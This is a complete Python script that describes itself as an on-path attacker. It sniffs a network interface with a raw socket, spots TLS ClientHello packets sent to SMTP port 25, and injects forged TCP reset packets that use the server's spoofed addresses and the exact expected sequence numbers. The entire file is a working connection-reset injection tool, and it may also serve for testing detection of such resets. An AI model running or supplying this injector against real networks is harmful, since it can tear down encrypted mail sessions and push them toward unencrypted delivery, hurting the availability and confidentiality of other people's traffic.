#!/usr/bin/env python3
"""Attacker beside the path: watches an interface, answers a ClientHello with a forged reset.

    rstinject.py INTERFACE TTL

The reset has the server's addresses and the exact sequence number that the client expects,
but our TTL, no options and window 0. The server knows nothing of it, so its ServerHello
still comes afterwards.
"""
import socket
import struct
import sys

ETH, IP4, TCP, RST_ACK = 14, 0x0800, 6, 0x14


def checksum(data):
    if len(data) % 2:
        data += b"\0"
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def hello(frame):
    """(ip header, tcp header, payload) of a client's ClientHello to port 25, else None."""
    if len(frame) < ETH + 40 or struct.unpack("!H", frame[12:14])[0] != IP4:
        return None
    ip = frame[ETH:ETH + (frame[ETH] & 15) * 4]
    if ip[9] != TCP:
        return None
    end = ETH + struct.unpack("!H", ip[2:4])[0]
    tcp = frame[ETH + len(ip):end]
    payload = tcp[(tcp[12] >> 4) * 4:]
    if struct.unpack("!H", tcp[2:4])[0] != 25 or payload[:1] != b"\x16":
        return None
    return ip, tcp, payload


def reset(frame, ip, tcp, payload, ttl):
    """The frame that the server would have to send to refuse the connection."""
    src, dst = ip[16:20], ip[12:16]
    sport, dport = tcp[2:4], tcp[0:2]
    ack = (struct.unpack("!I", tcp[4:8])[0] + len(payload)) & 0xFFFFFFFF
    seg = sport + dport + tcp[8:12] + struct.pack("!IBBHHH", ack, 0x50, RST_ACK, 0, 0, 0)
    pseudo = src + dst + struct.pack("!BBH", 0, TCP, len(seg))
    seg = seg[:16] + struct.pack("!H", checksum(pseudo + seg)) + seg[18:]
    head = struct.pack("!BBHHHBBH", 0x45, 0, 20 + len(seg), 0x5A5A, 0, ttl, TCP, 0) + src + dst
    head = head[:10] + struct.pack("!H", checksum(head)) + head[12:]
    return frame[6:12] + frame[0:6] + frame[12:14] + head + seg


def main():
    dev, ttl = sys.argv[1], int(sys.argv[2])
    sock = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(IP4))
    sock.bind((dev, 0))
    print("watching", flush=True)
    while True:
        frame, where = sock.recvfrom(65536)
        if where[2] == socket.PACKET_OUTGOING:
            continue
        found = hello(frame)
        if found:
            sock.send(reset(frame, *found, ttl))


if __name__ == "__main__":
    sys.exit(main())
